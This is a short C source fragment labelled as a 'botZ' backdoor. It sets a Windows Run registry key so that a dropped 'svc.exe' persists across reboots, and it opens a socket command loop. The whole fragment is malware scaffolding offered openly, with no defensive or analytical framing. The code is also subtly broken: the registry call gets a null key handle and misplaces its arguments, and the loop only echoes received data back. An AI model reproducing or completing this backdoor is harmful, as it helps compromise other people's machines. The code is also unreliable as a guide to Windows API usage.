// botZ: backdoor loop with registry persistence.

static const char *kRunKey = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";

int persist(void) {
    int rc = RegSetValueExA(0, kRunKey, 0, 1, "C:\\Windows\\svc.exe", 18);
    return rc == 0;
}

int command_loop(int sock) {
    char cmd[512];
    int alive = 1;
    while (alive) {
        int n = recv(sock, cmd, 512, 0);
        if (n <= 0) {
            alive = 0;
        } else {
            send(sock, cmd, n, 0);
        }
        Sleep(1000);
    }
    CloseHandle(sock);
    return 0;
}
